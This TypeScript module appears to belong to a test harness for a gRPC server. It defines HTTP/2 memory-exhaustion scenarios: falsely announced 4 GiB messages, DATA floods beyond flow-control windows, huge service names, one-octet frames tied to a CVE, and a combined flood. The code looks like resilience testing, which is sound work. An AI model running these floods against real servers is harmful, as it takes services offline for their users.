import { grpcMessage } from '../support/http2-frames.ts';
import { waitUntil } from '../support/wait-until.ts';
import { onConnection } from './attack.ts';
import { openConnectionWindow, soonStalled, untilStuck } from './flow-attacks.ts';
import {
  begin,
  compressed,
  data,
  gzipField,
  longAnswer,
  methods,
  rateLimitRequest,
  serviceName,
  streamId,
} from './hostile-frames.ts';

type Pairs = readonly (readonly [number, number])[];

const largestWindow: Pairs = [[4, 0x7fff_ffff]];
const frameOctets = 16_384;
/** GRPC_CONNECTION_WINDOW by default. */
const connectionWindow = 5_242_880;

/** A length that is not to be believed. */
export const announced4GiB = onConnection(
  { name: 'Messages of 4 GiB, announced', unit: 'calls' },
  async (client) => {
    const prefix = Buffer.of(0, 0xff, 0xff, 0xff, 0xff);
    const sent = await client.flood(1_000, (index) =>
      Buffer.concat([begin(streamId(index)), data(streamId(index), prefix, false)]),
    );
    await client.answered(sent);
    return sent;
  },
);

/** As many octets as the windows allow, and no message of them complete. The client keeps to the windows. */
export const neverComplete = onConnection(
  { name: '200 messages of 4 MiB, none completed', unit: 'DATA of 16 KiB' },
  async (client, look) => {
    const calls = 200;
    const prefix = Buffer.of(0, 0x00, 0x40, 0x00, 0x00);
    await client.flood(calls, (index) =>
      Buffer.concat([begin(streamId(index)), data(streamId(index), prefix, false)]),
    );
    const piece = Buffer.alloc(frameOctets);
    // Of the window, their prefixes took a little.
    const whole = connectionWindow / frameOctets - 1;
    const sent = await client.flood(whole, (index) => data(streamId(index % calls), piece, false));
    await look();
    await client.flood(1, () => data(streamId(0), piece.subarray(0, frameOctets - 5 * calls), false));
    await client.answered(1);
    return sent;
  },
);

/** More than the windows allow. */
export const beyondWindows = onConnection(
  { name: 'DATA beyond the windows', unit: 'DATA of 16 KiB' },
  async (client) => {
    const calls = 200;
    const prefix = Buffer.of(0, 0x00, 0x40, 0x00, 0x00);
    await client.flood(calls, (index) =>
      Buffer.concat([begin(streamId(index)), data(streamId(index), prefix, false)]),
    );
    const piece = Buffer.alloc(frameOctets);
    const sent = await client.flood(50_000, (index) => data(streamId(index % calls), piece, false));
    await client.ended();
    return sent;
  },
);

/** Calls that would stay open, and keep what they were asked with. */
export const longNames = onConnection(
  { name: 'Watched names of 4 MB', unit: 'DATA of 16 KiB' },
  async (client, look) => {
    const name = grpcMessage(serviceName(4_000_000));
    const frames = Math.ceil(name.length / frameOctets);
    let sent = 0;
    for (const id of [1, 3]) {
      await client.send(begin(id, methods.watch));
      sent += await client.flood(frames, (index) => {
        const piece = name.subarray(index * frameOctets, (index + 1) * frameOctets);
        return data(id, piece, index === frames - 1);
      });
    }
    await client.answered(2);
    await look();
    return sent;
  },
);

/** Five octets each, for a handler whose answers are held back: as objects they would be fifty times as large. */
export const emptyMessages = onConnection(
  { name: 'A million empty messages, not yet taken', unit: 'messages', settings: [[4, 0]] },
  async (client) => {
    const streams = 5;
    const inFrame = Math.floor(frameOctets / 5);
    const messages = Buffer.alloc(5 * inFrame);
    const frames = 63;
    await client.flood(streams, (index) => begin(streamId(index), methods.reflect));
    await client.flood(streams * frames, (index) => data(streamId(index % streams), messages, false));
    await waitUntil('the first answers', () => client.count('HEADERS') === streams);
    return streams * frames * inFrame;
  },
);

/** CVE-2026-84304: each octet in a frame of its own, of messages that are kept until they are whole or can be taken. */
export const tinyFrames = onConnection(
  { name: 'DATA of one octet each', unit: 'DATA', settings: [[4, 0]] },
  async (client, look) => {
    const prefix = Buffer.of(0, 0x00, 0x40, 0x00, 0x00);
    await client.send(begin(1), data(1, prefix, false));
    await client.send(begin(3, methods.reflect), data(3, Buffer.alloc(10), false));
    const frames = [data(1, Buffer.of(0), false), data(3, Buffer.of(0), false)];
    const sent = await client.flood(600_000, (index) => frames[index % 2] as Buffer);
    // It is answered when all before it was read.
    await client.send(begin(5, '/no.such/Method'));
    await waitUntil('the refusal', () => client.count('RST_STREAM') === 1);
    await look();
    return sent;
  },
);

/** 4 MB of good requests, each without its last octet; then all last octets in one packet. */
export const allAtOnce = onConnection(
  { name: '500 large calls that end in one packet', unit: 'calls', settings: largestWindow },
  async (client) => {
    await client.send(openConnectionWindow);
    const request = grpcMessage(rateLimitRequest(500));
    const calls = 500;
    await client.flood(calls, (index) =>
      Buffer.concat([begin(streamId(index)), data(streamId(index), request.subarray(0, -1), false)]),
    );
    const last = request.subarray(-1);
    await client.send(...Array.from({ length: calls }, (_, index) => data(streamId(index), last)));
    await client.answered(calls);
    return calls;
  },
);

/** Whatever can be held, on one connection: messages of all kinds, and answers behind windows and in the socket. */
export const everything = onConnection(
  {
    name: 'All that can be held, at once',
    unit: 'frames',
    env: soonStalled,
    settings: [[4, 0]],
    reads: false,
  },
  async (client, look) => {
    const ids = (from: number, count: number) =>
      Array.from({ length: count }, (_, index) => streamId(from + index));
    // As long as they are taken, which is what their calls hold for as long as they are open.
    const name = compressed(serviceName(1_000));
    const names = ids(0, 500).flatMap((id) => [begin(id, methods.watch, gzipField), data(id, name)]);
    const answers = ids(500, 250).flatMap((id) => [begin(id, methods.reflect), data(id, longAnswer, false)]);
    const prefix = Buffer.of(0, 0x00, 0x40, 0x00, 0x00);
    const begun = ids(750, 200).flatMap((id) => [begin(id), data(id, prefix, false)]);
    const piece = Buffer.alloc(frameOctets);
    const pieces = ids(750, connectionWindow / frameOctets - 4).map((_, index) =>
      data(streamId(750 + (index % 200)), piece, false),
    );
    // Each is answered with RST_STREAM, which nobody reads.
    const refused = ids(950, 200_000).map((id) => begin(id, '/'));
    const frames = [...names, ...answers, ...begun, ...pieces, ...refused];
    const sending = client.flood(frames.length, (index) => frames[index] as Buffer);
    await Promise.race([sending, untilStuck(client)]);
    await look();
    return sending;
  },
);
